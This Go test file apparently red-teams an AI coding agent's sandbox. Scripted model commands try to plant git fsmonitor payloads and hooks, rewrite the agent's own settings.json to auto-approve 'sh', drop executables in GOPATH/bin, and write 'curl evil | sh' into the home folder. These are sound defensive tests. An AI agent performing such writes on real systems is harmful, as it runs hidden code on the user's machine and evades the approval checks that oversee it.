package redteam

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/agentls/agentls/agent/llm/fakemodel"
	"github.com/agentls/agentls/tools"
)

// sandboxed runs line with /bin/sh in the sandbox commands get (network
// off), with root as the workspace and working folder, and returns what it
// printed.
func sandboxed(t *testing.T, root, line string) string {
	t.Helper()
	var out bytes.Buffer
	w := &lockedWriter{b: &out}
	res, err := tools.Run(ctxFor(t), tools.RunSpec{
		Argv: []string{"/bin/sh", "-c", line}, Dir: root, Stdout: w, Stderr: w, Timeout: time.Minute,
		Sandbox: tools.SandboxOptions{Roots: []string{root}},
	})
	if err != nil {
		t.Fatalf("%s: %v", line, err)
	}
	t.Logf("sandbox: %s; exit %d\n%s", res.Sandbox, res.ExitCode, w.String())
	if !strings.HasPrefix(res.Sandbox, "landlock") {
		t.Fatalf("the command ran without the sandbox (%s): nothing to attack", res.Sandbox)
	}
	return w.String()
}

// endToEnd has the scripted model run line with run_command in a real
// server (approval auto) on a workspace holding files, after prepare (if
// set) ran on the workspace folder, and returns the server.
func endToEnd(t *testing.T, files map[string]string, prepare func(root string), line string) *server {
	t.Helper()
	args := fmt.Sprintf(`{"command":%q}`, line)
	turns := []fakemodel.Turn{
		{ToolCalls: []fakemodel.ToolCall{call("c1", "run_command", args)}},
		{Text: "Done.", FinishReason: "stop"},
	}
	s := newServer(t, turns, files, serverOpts{})
	if prepare != nil {
		prepare(s.root)
	}
	if _, err := s.run(t, map[string]any{"prompt": "run the build", "mode": "edit"}); err != nil {
		t.Fatal(err)
	}
	return s
}

// lastToolResult is the text of the tool result the model got last: what
// the command printed, as the model saw it.
func lastToolResult(s *server) string {
	reqs := s.model.Requests()
	for i := len(reqs) - 1; i >= 0; i-- {
		msgs := reqs[i].Chat.Messages
		for j := len(msgs) - 1; j >= 0; j-- {
			if msgs[j].Role == "tool" {
				return msgs[j].Content
			}
		}
	}
	return ""
}

type lockedWriter struct {
	mu sync.Mutex
	b  *bytes.Buffer
}

func (w *lockedWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.b.Write(p)
}

func (w *lockedWriter) String() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.b.String()
}

func randName(prefix string) string {
	b := make([]byte, 6)
	rand.Read(b)
	return prefix + hex.EncodeToString(b)
}

func fileText(p string) string {
	b, _ := os.ReadFile(p)
	return string(b)
}

// gitStatusRunsNothing runs the user's next `git status` in root, outside
// any sandbox, with the API key in its environment (as the user's shell or
// an unsandboxed server would): the verdict is whether a payload ran.
func gitStatusRunsPayload(t *testing.T, root, m string) outcome {
	t.Helper()
	cmd := exec.Command("git", "status", "--porcelain")
	cmd.Dir = root
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "OPENAI_API_KEY="+apiKey)
	out, _ := cmd.CombinedOutput()
	t.Logf("git status: %s", out)
	return payloadVerdict(m)
}

// TestSandboxFileSystem: a command (the model's, or a test an approved
// `go test` runs) writes where later programs outside the sandbox look:
// git's own files, agentls's settings, the toolchain's bin folders, the
// user's home and the host's /tmp.
func TestSandboxFileSystem(t *testing.T) {
	attempt(t, famFS, "write .git/config through run_command", func(t *testing.T) outcome {
		m := marker(t)
		line := fmt.Sprintf(`printf '[core]\n\tfsmonitor = %s\n' >> .git/config; echo wrote`, payload(t, m))
		s := endToEnd(t, map[string]string{"main.go": "package main\n"}, func(root string) { gitInit(t, root, "") }, line)
		if strings.Contains(fileText(s.path(".git/config")), "fsmonitor") {
			return escaped(".git/config now names %s", fileText(s.path(".git/config")))
		}
		return held(".git/config unchanged")
	})

	attempt(t, famFS, "write .git/commondir pointing at a config of its own", func(t *testing.T) outcome {
		m := marker(t)
		line := fmt.Sprintf(`mkdir -p .cache/c && cp -r .git/refs .git/objects .git/HEAD .cache/c/ 2>/dev/null; printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = %s\n' > .cache/c/config; echo ../.cache/c > .git/commondir; echo done`, payload(t, m))
		s := endToEnd(t, map[string]string{"main.go": "package main\n"}, func(root string) { gitInit(t, root, "") }, line)
		if _, err := os.Stat(s.path(".git/commondir")); err == nil {
			o := gitStatusRunsPayload(t, s.root, m)
			if o.escaped {
				return o
			}
			return escaped(".git/commondir was written: %q", fileText(s.path(".git/commondir")))
		}
		return gitStatusRunsPayload(t, s.root, m)
	})

	attempt(t, famFS, "rename .git away and make a fresh one", func(t *testing.T) outcome {
		root := t.TempDir()
		writeFiles(t, root, map[string]string{"main.go": "package main\n"})
		gitInit(t, root, "")
		m := marker(t)
		line := fmt.Sprintf(`mv .git .git-old && git init -q . && printf '[core]\n\tfsmonitor = %s\n' >> .git/config; echo done`, payload(t, m))
		sandboxed(t, root, line)
		if _, err := os.Stat(filepath.Join(root, ".git-old")); err == nil {
			return escaped(".git was renamed to .git-old (config now: %q)", fileText(filepath.Join(root, ".git", "config")))
		}
		return gitStatusRunsPayload(t, root, m)
	})

	attempt(t, famFS, "create .git where there was none, from a go test's TestMain", func(t *testing.T) outcome {
		m := marker(t)
		files := map[string]string{
			"go.mod": "module x\n\ngo 1.22\n",
			"x_test.go": fmt.Sprintf(`package x

import (
	"os"
	"os/exec"
	"testing"
)

func TestMain(m *testing.M) {
	exec.Command("git", "init", "-q", ".").Run()
	f, _ := os.OpenFile(".git/config", os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString("[core]\n\tfsmonitor = %s\n")
	f.Close()
	os.Exit(m.Run())
}

func TestX(t *testing.T) {}
`, payload(t, m)),
		}
		s := endToEnd(t, files, nil, "go test ./... 2>&1 | tail -3")
		if _, err := os.Stat(s.path(".git")); err == nil {
			o := gitStatusRunsPayload(t, s.root, m)
			return escaped("a .git the command created stayed in the workspace (payload ran: %v)", o.escaped)
		}
		if !strings.Contains(lastToolResult(s), ".git") {
			return escaped("the .git is gone but the command's result does not say so:\n%s", lastToolResult(s))
		}
		return held("the .git the test created was removed and the result says so")
	})

	attempt(t, famFS, "write .git/info/attributes and a hook", func(t *testing.T) outcome {
		root := t.TempDir()
		writeFiles(t, root, map[string]string{"main.go": "package main\n"})
		gitInit(t, root, "")
		out := sandboxed(t, root, `mkdir -p .git/info && echo '*.go filter=x' > .git/info/attributes && echo ATTR-WRITTEN; printf '#!/bin/sh\nid\n' > .git/hooks/post-checkout && echo HOOK-WRITTEN; true`)
		var got []string
		for _, w := range []string{"ATTR-WRITTEN", "HOOK-WRITTEN"} {
			if strings.Contains(out, w) {
				got = append(got, w)
			}
		}
		if len(got) > 0 {
			return escaped("%s", strings.Join(got, ", "))
		}
		return held("both writes refused")
	})

	attempt(t, famFS, "write .agentls/settings.json", func(t *testing.T) outcome {
		s := endToEnd(t, map[string]string{".agentls/settings.json": `{"allowCommands":[]}` + "\n"}, nil,
			`echo '{"allowCommands":["sh"],"approval":"auto"}' > .agentls/settings.json; echo done`)
		if strings.Contains(fileText(s.path(".agentls/settings.json")), `"sh"`) {
			return escaped("settings.json now: %s", fileText(s.path(".agentls/settings.json")))
		}
		return held("settings.json unchanged")
	})

	attempt(t, famFS, "write a program into GOPATH/bin", func(t *testing.T) outcome {
		gopath := goEnv(t, "GOPATH")
		p := filepath.Join(strings.Split(gopath, ":")[0], "bin", randName("agentls-redteam-"))
		t.Cleanup(func() { os.Remove(p) })
		root := t.TempDir()
		sandboxed(t, root, fmt.Sprintf(`mkdir -p %s; printf '#!/bin/sh\nenv\n' > %s && chmod +x %s && echo PLANTED`, filepath.Dir(p), p, p))
		if _, err := os.Stat(p); err == nil {
			return escaped("%s was written", p)
		}
		return held("GOPATH/bin is read-only")
	})

	attempt(t, famFS, "write outside the workspace, in the home folder", func(t *testing.T) outcome {
		home, _ := os.UserHomeDir()
		p := filepath.Join(home, randName(".agentls-redteam-"))
		t.Cleanup(func() { os.Remove(p) })
		sandboxed(t, t.TempDir(), fmt.Sprintf(`echo 'curl evil | sh' > %s; echo done`, p))
		if _, err := os.Stat(p); err == nil {
			return escaped("%s was written", p)
		}
		return held("the home folder is read-only")
	})

	attempt(t, famFS, "plant a file in the host's /tmp for other programs", func(t *testing.T) outcome {
		p := filepath.Join("/tmp", randName("agentls-redteam-"))
		t.Cleanup(func() { os.Remove(p) })
		sandboxed(t, t.TempDir(), fmt.Sprintf(`echo planted > %s; echo done`, p))
		if _, err := os.Stat(p); err == nil {
			return escaped("%s appeared in the host's /tmp", p)
		}
		return held("the command's /tmp is its own")
	})
}

// goEnv is `go env name`, run by the test (outside any sandbox).
func goEnv(t *testing.T, name string) string {
	t.Helper()
	out, err := exec.CommandContext(context.Background(), "go", "env", name).Output()
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(out))
}
